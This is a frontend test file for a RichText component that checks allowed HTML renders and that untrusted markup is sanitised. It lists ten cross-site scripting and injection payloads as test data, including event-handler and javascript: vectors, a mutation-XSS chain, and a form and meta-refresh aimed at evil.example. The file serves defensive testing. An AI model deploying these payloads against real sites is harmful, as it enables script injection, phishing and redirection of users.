import { render, screen } from '@testing-library/react'
import { expect, test } from 'vitest'
import { RichText } from '#src/kit/page/rich-text.tsx'

const shown = (text: string) => render(<RichText text={text} />).container.firstElementChild as HTMLElement

test('allowed tags are shown, a link opens elsewhere without telling where from', () => {
  const box = shown(
    '<p>Apply <strong>online</strong></p><ul><li><a href="https://cedar.example/">Form</a></li></ul>',
  )
  expect(box.querySelector('p > strong')).toHaveTextContent('online')
  expect(screen.getByRole('listitem')).toHaveTextContent('Form')
  const link = screen.getByRole('link', { name: 'Form' })
  expect(link).toHaveAttribute('href', 'https://cedar.example/')
  expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow')
})

test('plain text stays readable, with its lines and signs', () => {
  const box = shown('Income < 3,00,000 & age > 21\nKYC at home')
  expect(box.textContent).toBe('Income < 3,00,000 & age > 21\nKYC at home')
  expect(box).toHaveClass('plain')
})

test.each([
  '<img src=x onerror="window.hit=1">',
  '<script>window.hit=1</script>',
  '<svg onload="window.hit=1"><a xlink:href="javascript:window.hit=1">x</a></svg>',
  '<a href="javascript:window.hit=1">x</a>',
  '<a href=" https://x" onclick="window.hit=1">x</a>',
  '<p style="position:fixed" onmouseover="window.hit=1">x</p>',
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<form action="https://evil.example"><input name=otp><button>x</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
])('even what no server cleaned runs nothing: %s', (attack) => {
  const box = shown(attack)
  const made = [box, ...box.querySelectorAll('*')]
  for (const element of made) {
    expect(['SPAN', 'P', 'STRONG', 'EM', 'U', 'UL', 'OL', 'LI', 'BR', 'A']).toContain(element.tagName)
    const names = element.getAttributeNames().filter((name) => element !== box || name !== 'class')
    expect(names.filter((name) => !['href', 'target', 'rel'].includes(name))).toEqual([])
    expect(element.getAttribute('href') ?? 'https://').toMatch(/^https:\/\//)
  }
  expect((window as { hit?: number }).hit).toBeUndefined()
})
